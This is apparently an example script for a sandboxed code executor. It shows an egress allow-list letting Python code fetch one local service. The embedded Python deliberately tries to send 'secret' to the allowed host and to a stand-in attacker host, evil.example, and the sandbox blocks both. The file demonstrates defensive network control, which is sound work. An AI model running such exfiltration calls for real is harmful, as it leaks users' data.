// Code that may reach one service and nothing else, and a list of what it tried:
//   npx tsx examples/egress/one-host.ts
import { once } from "node:events"
import { createServer } from "node:http"
import type { AddressInfo } from "node:net"
import { DockerCommandLineCodeExecutor } from "glovebox/executors/docker"

// The service: here on this machine, so it is named as a private one too.
const service = createServer((_request, response) => response.end('{"heights": [1.71, 1.64, 1.93]}'))
service.listen(0, "127.0.0.1")
await once(service, "listening")
const { port } = service.address() as AddressInfo

await using executor = new DockerCommandLineCodeExecutor({
  image: process.env["GLOVEBOX_SANDBOX_IMAGE"] || "python:3-slim",
  network: {
    allow: [{ to: `data.example:${port}`, methods: ["GET"], paths: ["/heights"], down: "1MiB" }],
    allowPrivate: [`127.0.0.1:${port}`],
  },
  egress: { lookup: async () => ["127.0.0.1"] },
  pool: false,
})

const { stdout, egress } = await executor.executeCodeBlocks([
  {
    language: "python",
    code: `import json, statistics, urllib.request
data = json.load(urllib.request.urlopen("http://data.example:${port}/heights"))
print("mean", round(statistics.mean(data["heights"]), 2))
for url, body in (("http://data.example:${port}/heights", b"secret"), ("https://evil.example/?secret", None)):
    try: urllib.request.urlopen(url, body)
    except OSError as error: print(error)`,
  },
])
service.close()

console.log(stdout.replaceAll(String(port), "PORT").trimEnd())
for (const { host, verdict, denial, method = "CONNECT" } of egress ?? []) {
  console.log(`${verdict}: ${method} to ${host}${denial ? ` (${denial.code})` : ""}`)
}

/* Prints:
mean 1.76
HTTP Error 403: Denied by Glovebox: POST is not a method that the rule data.example:PORT (GET, "/heights", down 1MiB) allows
<urlopen error Tunnel connection failed: 403 Denied by Glovebox: evil.example:443 is not in network.allow>
allowed: GET to data.example
denied: POST to data.example (METHOD)
denied: CONNECT to evil.example (NOT_ALLOWED)
*/
